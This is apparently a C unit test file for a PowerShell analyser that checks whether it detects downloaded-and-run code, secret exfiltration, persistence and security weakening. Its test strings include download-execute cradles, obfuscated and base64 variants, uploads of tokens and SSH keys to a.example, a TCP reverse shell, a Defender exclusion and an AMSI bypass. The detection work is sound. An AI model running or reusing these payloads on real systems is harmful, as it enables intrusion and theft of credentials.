/* PowerShell: what is code, what it is lowered to, what it computes, what reaches what. */
#include "read/js_case.h"

#include "read/script.h"
#include "read/shell_command.h"
#include "util/buf.h"

static struct js_case *ps_run(const char *text)
{
	struct arena a;
	struct js_case *c;

	arena_init(&a, 0);
	c = js_case_steps(LANGUAGE_POWERSHELL, STR_NONE, script_of_powershell(&a, str_of(text)), 200000000);
	arena_release(&a);
	return c;
}

static unsigned missing;

static void says(const char *text, enum fact_kind kind, const char *key, const char *value)
{
	struct js_case *c = ps_run(text);

	if (!js_case_find(c, kind, key, value)) {
		print_message("missing %s %s %s in:\n%s\n", fact_kind_name(kind), key ? key : "", value ? value : "", text);
		js_case_print(c);
	}
	missing += !js_case_find(c, kind, key, value);
	js_case_free(c);
}

static void says_no_flow(const char *text)
{
	struct js_case *c = ps_run(text);

	if (js_case_find(c, FACT_FLOW, NULL, NULL)) {
		print_message("not wanted in:\n%s\n", text);
		js_case_print(c);
	}
	missing += js_case_find(c, FACT_FLOW, NULL, NULL) != NULL;
	js_case_free(c);
}

static void ticks(const char *file, const char *want)
{
	struct arena a;
	struct str s;

	arena_init(&a, 0);
	s = script_of_powershell(&a, str_of(file));
	if (!str_is(s, want))
		fail_msg("\"%.*s\", wanted \"%s\"", STR_ARG(s), want);
	arena_release(&a);
}

static void words_without_ticks(void **state)
{
	ticks("i`e`x $a", "iex   $a");
	ticks("Ne`w-Ob`ject x`\n y", "New-Object   x`\n y");
	ticks("i`e`x(i`r`m a)", "iex  (irm   a)");
	ticks("'a`b' \"c`nd\" # e`f", "'a`b' \"c`nd\" # e`f");
	ticks("@'\na`b\n'@", "@'\na`b\n'@");
	assert_int_equal(missing, 0);
	(void)state;
}

static void downloads_that_run(void **state)
{
	static const char *const code[] = {
		"IEX (New-Object Net.WebClient).DownloadString('https://a.example/x.ps1')",
		"iex ((New-Object System.Net.WebClient).DownloadString(\"https://a.example/x\"))",
		"$c = New-Object System.Net.WebClient; $s = $c.DownloadString('https://a.example/x'); Invoke-Expression $s",
		"(iwr -Uri https://a.example/x -UseBasicParsing).Content | iex",
		"irm 'https://a.example/x' | Invoke-Expression",
		"i`e`x (irm https://a.example/x)",
		"& ('i'+'ex') (Invoke-RestMethod -Uri 'https://a.example/x')",
		"&(\"{1}{0}\" -f 'EX','I') (New-Object Net.WebClient).(\"Down\"+\"loadString\")('https://a.example/x')",
		"Set-Alias q iex; q (curl https://a.example/x)",
		"$r = Invoke-WebRequest https://a.example/x; & ([scriptblock]::Create($r.Content))",
		"function Get-It { param($u) return (New-Object Net.WebClient).DownloadString($u) }\n$t = Get-It -u 'https://a.example/x'\niex $t",
		"$b = (New-Object Net.WebClient).DownloadData('https://a.example/x'); [Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)",
		"$s = [System.Net.Http.HttpClient]::new().GetStringAsync('https://a.example/x').Result; .([ScriptBlock]::Create($s))",
		"$x = if ($true) { irm https://a.example/x } else { '' }; iex $x",
		"[PowerShell]::Create().AddScript((irm https://a.example/x)).Invoke()",
	};

	for (size_t i = 0; i < sizeof(code) / sizeof(code[0]); i++)
		says(code[i], FACT_FLOW, "net>code", NULL);
	assert_int_equal(missing, 0);
	(void)state;
}

static void files_that_run(void **state)
{
	static const char *const code[] = {
		"Invoke-WebRequest -Uri 'https://a.example/x.exe' -OutFile \"$env:TEMP\\x.exe\"\nStart-Process \"$env:TEMP\\x.exe\" -WindowStyle Hidden",
		"$p = Join-Path $env:TEMP 'u.exe'; (New-Object Net.WebClient).DownloadFile('https://a.example/x', $p); & $p",
		"Start-BitsTransfer -Source https://a.example/x -Destination C:\\Users\\Public\\u.exe; Start-Process C:\\Users\\Public\\u.exe",
	};

	for (size_t i = 0; i < sizeof(code) / sizeof(code[0]); i++)
		says(code[i], FACT_FLOW, "net>run", NULL);
	assert_int_equal(missing, 0);
	(void)state;
}

static void what_goes_out(void **state)
{
	says("Invoke-RestMethod -Method Post -Uri 'https://a.example/c' -Body (gci env: | ConvertTo-Json)", FACT_FLOW, "env>net", NULL);
	says("$t = $env:GITHUB_TOKEN; Invoke-WebRequest \"https://a.example/?t=$t\"", FACT_FLOW, "env>net", NULL);
	says("$k = Get-Content \"$env:USERPROFILE\\.ssh\\id_rsa\" -Raw; irm https://a.example -Method POST -Body $k", FACT_FLOW, "cred>net", NULL);
	says("$c = New-Object Net.Sockets.TCPClient('192.0.2.7', 4444); $s = $c.GetStream(); [byte[]]$b = 0..65535|%{0};\n"
	     "while (($i = $s.Read($b, 0, $b.Length)) -ne 0) { $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i); $o = (iex $d 2>&1 | Out-String) }",
		FACT_FLOW, "net>code", NULL);
	assert_int_equal(missing, 0);
	(void)state;
}

static void decoded(void **state)
{
	static const char *const code[] = {
		"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('U3RhcnQtUHJvY2VzcyBjYWxjLmV4ZTsgaXJtIGh0dHBzOi8vYS5leGFtcGxlL3g=')))",
		"$e = 'UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgAGMAYQBsAGMALgBlAHgAZQA7ACAAaQByAG0AIABoAHQAdABwAHMAOgAvAC8AYQAuAGUAeABhAG0AcABsAGUALwB4AA==';"
		"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($e)))",
		"$k = 'x/elpmaxe.a//:sptth mri ;exe.clac ssecorP-tratS'; iex (-join $k[-1..-($k.Length)])",
		"$s = 'Start-Process cZlc.exe; irm https://Z.exZmple/x'.Replace('Z', 'a'); iex $s",
		"iex ('Start-Process calc.exe; irm https://{0}.example/{1}' -f 'a', 'x')",
		"$o = ''; foreach ($c in 83,116,97,114,116,45,80,114,111,99,101,115,115,32,99,97,108,99,59,105,114,109,32,104,116,116,112,115,58,47,47,97,46,"
		"101,120,97,109,112,108,101,47,120) { $o += [char]$c }; iex $o",
		"iex (-join ('83,116,97,114,116,45,80,114,111,99,101,115,115,32,99,97,108,99,59,105,114,109,32,104,116,116,112,115,58,47,47,97,46,"
		"101,120,97,109,112,108,101,47,120' -split ',' | % { [char][int]$_ }))",
		"$b = [Convert]::FromBase64String('U3RhcnQtUHJvY2VzcyBjYWxjLmV4ZTsgaXJtIGh0dHBzOi8vYS5leGFtcGxlL3g='); $t = ''; $b | % { $t += [char]($_ -bxor 0) }; iex $t",
	};

	for (size_t i = 0; i < sizeof(code) / sizeof(code[0]); i++)
		says(code[i], FACT_HOST, "a.example", NULL);
	assert_int_equal(missing, 0);
	(void)state;
}

static void stays_and_weakens(void **state)
{
	says("Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value 'powershell -w hidden -c x'",
		FACT_FLOW, "data>persist", NULL);
	says("Add-MpPreference -ExclusionPath C:\\ -Force", FACT_COMMAND, NULL, "");
	says("schtasks /create /tn x /tr \"C:\\x.exe\" /sc onlogon", FACT_COMMAND, NULL, "");
	says("Register-ScheduledTask -TaskName u -Action $a", FACT_COMMAND, NULL, "");
	says("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
		FACT_COMMAND, NULL, "AmsiUtils");
	says("[Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}", FACT_TRUST, "tls-verify-off", NULL);
	assert_int_equal(missing, 0);
	(void)state;
}

/* What a command line hands to PowerShell. */
static void code_in_commands(void **state)
{
	static const struct {
		const char *command, *code;
	} rows[] = {
		{"powershell -c \"iex (irm https://a.example/x)\"", "iex (irm https://a.example/x)"},
		{"powershell.exe -NoP -W Hidden -ExecutionPolicy Bypass -Command & { a }", "& { a }"},
		{"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ep bypass Get-Item x", "Get-Item x"},
		{"pwsh -File x.ps1", ""}, {"powershell .\\x.ps1 -a b", ""},
		{"powershell -enc RwBlAHQALQBJAHQAZQBtACAAeAA=", "Get-Item x"},
	};
	struct arena a;

	arena_init(&a, 0);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct str s = command_powershell(&a, str_of(rows[i].command));

		if (!str_is(s, rows[i].code))
			fail_msg("%s: \"%.*s\"", rows[i].command, STR_ARG(s));
	}
	arena_release(&a);
	says("curl.exe -s https://a.example/x | iex", FACT_FLOW, "net>code", NULL);
	says("$x = & cmd /c curl -s https://a.example/x; iex $x", FACT_FLOW, "net>code", NULL);
	says("Start-Process powershell -ArgumentList '-w hidden -c \"iex (irm https://a.example/x)\"'", FACT_FLOW, "net>code", NULL);
	says("cmd /c powershell -enc aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAGEALgBlAHgAYQBtAHAAbABlAC8AeAApAA==", FACT_FLOW, "net>code", NULL);
	(void)state;
}

static void ordinary(void **state)
{
	says_no_flow("param([string]$Path)\nfunction Get-Thing { param($x) Get-ChildItem $x | Where-Object { $_.Length -gt 1 } | Sort-Object Name }\nGet-Thing -x $Path | Out-File list.txt");
	says_no_flow("$v = Invoke-RestMethod -Uri 'https://a.example/version.json'; Write-Host \"new: $($v.version)\"");
	says_no_flow("$x = curl.exe -s https://a.example/x\nWrite-Host $x\n$v = git.exe describe\niex \"Set-Item v $v\"");
	says_no_flow("$toolsDir = \"$(Split-Path -parent $MyInvocation.MyCommand.Definition)\"\nInstall-ChocolateyPackage 'x' 'msi' '/quiet' 'https://a.example/x.msi' -Checksum $c");
	says_no_flow("$file = Get-DownloadFile $name; Start-Process -Wait (Join-Path $file 'setup.exe') \"/features $opts /q\"");
	says_no_flow("@{ RootModule = 'a.psm1'; ModuleVersion = '1.0'; FunctionsToExport = @('Get-A', 'Set-A') }");
	says_no_flow("try { & git status } catch { throw } finally { Pop-Location }; switch ($x) {\n 'a' { 1 }\n default { 2 }\n}");
	assert_int_equal(missing, 0);
	(void)state;
}

static void unharmed(void **state)
{
	struct buf b;

	buf_init(&b, 1 << 20);
	for (int i = 0; i < 20000; i++)
		buf_add_z(&b, i % 3 ? "(" : "$(");
	js_case_free(js_case_steps(LANGUAGE_POWERSHELL, STR_NONE, buf_str(&b), 200000000));
	buf_clear(&b);
	for (int i = 0; i < 20000; i++)
		buf_add_z(&b, i % 2 ? "{" : "\"a$(");
	js_case_free(js_case_steps(LANGUAGE_POWERSHELL, STR_NONE, buf_str(&b), 200000000));
	buf_clear(&b);
	buf_add_z(&b, "iex ('a'");
	for (int i = 0; i < 20000; i++)
		buf_add_z(&b, "+'b'");
	js_case_free(js_case_steps(LANGUAGE_POWERSHELL, STR_NONE, buf_str(&b), 200000000));
	buf_release(&b);
	js_case_free(ps_run("@\"\nno end $("));
	says("iex ('a' -split 'b)'); iex ([regex]::split('a', '(b')); iex ('a' -replace 'b)', 'c'); iex (irm https://a.example/x)", FACT_HOST, "a.example", NULL);
	js_case_free(ps_run("iex 1..999999999; [char]99999999; 'a'[9..-9]; -join (0..99999999)"));
	assert_int_equal(missing, 0);
	(void)state;
}

static int reset(void **state)
{
	missing = 0;
	(void)state;
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup(words_without_ticks, reset), cmocka_unit_test_setup(downloads_that_run, reset), cmocka_unit_test_setup(files_that_run, reset),
		cmocka_unit_test_setup(what_goes_out, reset), cmocka_unit_test_setup(decoded, reset), cmocka_unit_test_setup(stays_and_weakens, reset), cmocka_unit_test_setup(code_in_commands, reset),
		cmocka_unit_test_setup(ordinary, reset),
		cmocka_unit_test_setup(unharmed, reset),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
